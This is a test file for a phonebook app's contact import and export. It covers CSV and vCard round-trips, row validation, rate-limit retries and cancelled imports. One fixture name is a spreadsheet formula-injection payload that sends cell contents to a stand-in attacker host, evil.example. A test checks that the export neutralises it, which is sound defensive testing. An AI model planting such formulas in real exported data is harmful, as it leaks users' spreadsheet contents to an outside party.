/**
 * Contacts out and in against the simulator, under both profiles: exports stream every field in
 * CSV and vCard 4.0, an export imported into an empty phonebook exports identically, importing it
 * again changes nothing, every row is checked before anything is sent, a speed dial the platform
 * refuses is swapped for the next, 429s are waited out, and a cancelled or broken import says
 * exactly which rows it did not bring in.
 */
import { afterAll, beforeAll, beforeEach, expect, it } from 'vitest';
import type { RunningSimulator } from '../../../../simulator/index';
import type { PlatformApi } from '../../../../src-main/core/api/platform-api';
import type { ImportProgress } from '../../../../src-main/core/contacts-io/contact-import';
import { failuresCsv } from '../../../../src-main/core/contacts-io/import-report';
import { apiFor } from '../../../support/api-rig';
import {
  advanceClock,
  control,
  describeEachProfile,
  requestLog,
  startSim,
} from '../../../support/sim-harness';
import {
  contactsOf,
  exported,
  fileWith,
  importFile,
  phonebookWith,
} from '../../../support/transfer-rig';

const CONTACTS = '/v3/phonebook/contact/';

/** Fields that stress both formats: separators, quotes, a formula, accents, no company. */
const SAMPLE = [
  {
    display_name: 'Zoë O\'Neil, "Zed"',
    number: '+4930123456',
    secondary_number: '+4917612345678',
    speed_dial: 7101,
    company: 'Müller; Söhne, GmbH',
  },
  {
    display_name: '=HYPERLINK("https://evil.example/?"&A1)',
    number: '+12025550143',
    secondary_number: null,
    speed_dial: 7102,
    company: '@risk',
  },
  {
    display_name: 'Ada Lovelace',
    number: '+442079460001',
    secondary_number: null,
    speed_dial: 7103,
    company: '',
  },
  {
    display_name: '-minus',
    number: '+33142685300',
    secondary_number: '+33142685301',
    speed_dial: 7104,
    company: '+plus \\ backslash',
  },
];

async function postsSince(sim: RunningSimulator, before: number) {
  return (await requestLog(sim))
    .slice(before)
    .filter((entry) => entry.method === 'POST' && entry.path === CONTACTS);
}

describeEachProfile('contacts import and export', (profile) => {
  let sim: RunningSimulator;
  let api: PlatformApi;
  beforeAll(async () => {
    sim = await startSim({ profile, contacts: 20 });
    ({ api } = await apiFor(sim));
  });
  afterAll(() => sim.close());
  // A fresh rate-limit window for each test (the minimal profile's is 120 a minute).
  beforeEach(() => advanceClock(sim, 60));

  for (const [format, offset] of [
    ['csv', 0],
    ['vcard', 50],
  ] as const) {
    it(`round-trips a phonebook through ${format}: the same export, and a second import changes nothing`, async () => {
      const source = await phonebookWith(
        api,
        SAMPLE.map((contact) => ({ ...contact, speed_dial: contact.speed_dial + offset })),
      );
      const first = await exported(api, source, format);
      // The speed dials are the tenant's: the source gives them up before the copy takes them.
      const ids = (await contactsOf(api, source)).map((contact) => contact.id);
      await api.phonebooks.bulkDeleteContacts(ids);
      const target = await phonebookWith(api);
      const file = await fileWith(format === 'csv' ? 'book.csv' : 'book.vcf', first);

      const result = await importFile(api, file, target);
      expect(result.counts).toEqual({
        created: SAMPLE.length,
        updated: 0,
        skipped: 0,
        failed: 0,
        not_sent: 0,
      });
      expect(await exported(api, target, format)).toBe(first);

      const before = (await requestLog(sim)).length;
      for (const onDuplicate of ['skip', 'update'] as const) {
        const again = await importFile(api, file, target, { onDuplicate });
        expect(again.counts.skipped).toBe(SAMPLE.length);
        expect(again.requests).toBe(0);
      }
      expect(await postsSince(sim, before)).toEqual([]);
      expect(await exported(api, target, format)).toBe(first);
    });
  }

  it('neutralises formulas in CSV cells and writes vCard 4.0', async () => {
    const book = await phonebookWith(api, [{ ...SAMPLE[1]!, speed_dial: 7111 }]);
    const csv = await exported(api, book, 'csv');
    expect(csv).toBe(
      'Name,Number,Secondary number,Speed dial,Company\r\n' +
        `"'=HYPERLINK(""https://evil.example/?""&A1)","'+12025550143",,7111,"'@risk"\r\n`,
    );
    const vcard = await exported(api, book, 'vcard');
    expect(vcard).toContain('BEGIN:VCARD\r\nVERSION:4.0\r\n');
    expect(vcard).toContain('TEL;TYPE=voice;PREF=1;VALUE=TEXT:+12025550143\r\n');
    expect(vcard).toContain('X-CALLBAR-SPEED-DIAL:7111\r\n');
  });

  it('exports every phonebook with a Phonebook column', async () => {
    const all = await exported(api, undefined, 'csv');
    const lines = all.trimEnd().split('\r\n');
    expect(lines[0]).toBe('Phonebook,Name,Number,Secondary number,Speed dial,Company');
    const visible = await api.phonebooks.listContacts({ page_size: 1 });
    expect(lines).toHaveLength(visible.count + 1);
  });

  it('checks every row before sending anything, and sends only the good ones', async () => {
    const book = await phonebookWith(api, [
      {
        display_name: 'Already here',
        number: '+12025550170',
        secondary_number: null,
        speed_dial: 7120,
      },
    ]);
    const long = 'x'.repeat(300);
    const file = await fileWith(
      'people.csv',
      [
        'FULL NAME,Mobile,Organisation,Speed-Dial',
        'National Number,(202) 555-0150,Acme,7121',
        ',+12025550151,Acme,',
        'Bad Number,hello,,',
        'Reserved Code,+12025550152,,9191',
        'Same Number,202-555-0150,,',
        'Short Code,+12025550153,,150',
        `${long},+12025550154,,`,
        'Existing,+1 202 555 0170,,',
        'Taken Code,+12025550155,,7120',
        'Control\u202eChar,+12025550156,,',
        'Gets A Speed Dial,+12025550157,,',
      ].join('\n'),
    );
    const dry = await importFile(api, file, book, { dry: true });
    expect(dry.rows.map((row) => row.outcome)).toEqual([
      'created',
      'failed',
      'failed',
      'failed',
      'failed',
      'failed',
      'failed',
      'skipped',
      'failed',
      'failed',
      'created',
    ]);
    expect(dry.rows.map((row) => row.reason ?? '')).toEqual([
      '',
      'It has no name.',
      expect.stringContaining('The number "hello" is not a phone number'),
      expect.stringContaining('Speed dial "9191" is not'),
      'Row 1 has the same number.',
      expect.stringContaining('Speed dial "150" is not'),
      'The name is longer than 255 characters.',
      'The phonebook has this number already (Already here).',
      'Speed dial 7120 belongs to Already here.',
      'The name contains control or invisible characters.',
      '',
    ]);
    expect(dry.rows[0]!.record).toEqual({
      display_name: 'National Number',
      number: '+12025550150',
      secondary_number: null,
      speed_dial: 7121,
      company: 'Acme',
    });
    expect(dry.rows[10]!.record!.speed_dial).toEqual(expect.any(Number));

    const before = (await requestLog(sim)).length;
    const result = await importFile(api, file, book);
    expect(result.counts).toMatchObject({ created: 2, skipped: 1, failed: 8 });
    expect(await postsSince(sim, before)).toHaveLength(2);
    const numbers = (await contactsOf(api, book)).map((contact) => contact.number).sort();
    expect(numbers).toEqual(['+12025550150', '+12025550157', '+12025550170']);

    // The failures as a CSV that imports again once fixed: the cells as given, and why.
    const report = failuresCsv(result);
    expect(report.split('\r\n')[0]).toBe(
      'Row,Name,Number,Secondary number,Speed dial,Company,Reason',
    );
    expect(report).toContain('4,Reserved Code,"\'+12025550152",,9191,,"Speed dial ""9191""');
    expect(report.trimEnd().split('\r\n')).toHaveLength(1 + 8);
  });

  it('gives a speed dial the platform refuses up for the next free one', async () => {
    // 2000 and 2001, the pool's first choices, held where Callbar was not told.
    const elsewhere = await phonebookWith(api);
    for (const code of [2000, 2001]) {
      await api.phonebooks
        .createContact({
          phonebook: elsewhere,
          display_name: `Holder ${code}`,
          number: `+1202555${code}`,
          secondary_number: null,
          speed_dial: code,
        })
        .catch(() => undefined); // held already: just as good
    }
    const book = await phonebookWith(api);
    const file = await fileWith('one.csv', 'Name,Number\nNew Person,+12025550190\n');
    const before = (await requestLog(sim)).length;
    const result = await importFile(api, file, book);
    expect(result.counts.created).toBe(1);
    const code = result.rows[0]!.contact!.speed_dial!;
    expect(code).toBeGreaterThan(2001);
    const posts = await postsSince(sim, before);
    expect(posts.filter((post) => post.status === 400).length).toBeGreaterThanOrEqual(2);
    expect(posts.at(-1)!.status).toBe(201);
  });

  it('waits out 429s and reports the wait', async () => {
    const book = await phonebookWith(api);
    await control(sim, 'POST', 'faults', {
      method: 'POST',
      path: CONTACTS,
      match: 'exact',
      status: 429,
      headers: { 'retry-after': '1' },
      count: 2,
    });
    const progress: ImportProgress[] = [];
    const file = await fileWith(
      'two.csv',
      'Name,Number,Speed dial\nFirst,+12025550191,7131\nSecond,+12025550192,7132\n',
    );
    const result = await importFile(api, file, book, { onProgress: (p) => progress.push(p) });
    expect(result.counts.created).toBe(2);
    expect(result.requests).toBe(4);
    expect(progress.filter((p) => p.waiting_ms !== undefined)).toHaveLength(2);
    expect(progress.at(-1)).toMatchObject({ done: 2, total: 2, created: 2 });
  }, 30_000);

  it('stops cleanly when cancelled: the rows after it are listed as not sent', async () => {
    const book = await phonebookWith(api);
    const rows = Array.from({ length: 8 }, (_, i) => `P${i},+1202555020${i},${7140 + i}`);
    const file = await fileWith('eight.csv', ['Name,Number,Speed dial', ...rows].join('\n'));
    const abort = new AbortController();
    const result = await importFile(api, file, book, {
      signal: abort.signal,
      onProgress: (p) => {
        if (p.done === 3) abort.abort(new Error('cancelled'));
      },
    });
    expect(result.cancelled).toBe(true);
    expect(result.counts).toMatchObject({ created: 3, not_sent: 5 });
    expect(await contactsOf(api, book)).toHaveLength(3);
    expect(failuresCsv(result).trimEnd().split('\r\n')).toHaveLength(1 + 5);
  });

  it('stops at a broken connection and says the row in flight may exist', async () => {
    const book = await phonebookWith(api);
    await control(sim, 'POST', 'faults', {
      method: 'POST',
      path: CONTACTS,
      match: 'exact',
      reset: true,
      count: 1,
    });
    const file = await fileWith(
      'three.csv',
      'Name,Number,Speed dial\nA,+12025550211,7151\nB,+12025550212,7152\nC,+12025550213,7153\n',
    );
    const result = await importFile(api, file, book);
    expect(result.stopped).toBeDefined();
    expect(result.rows.map((row) => row.outcome)).toEqual(['failed', 'not_sent', 'not_sent']);
    expect(result.rows[0]!.reason).toMatch(/may have created it\. Import the file again/);
  });
});
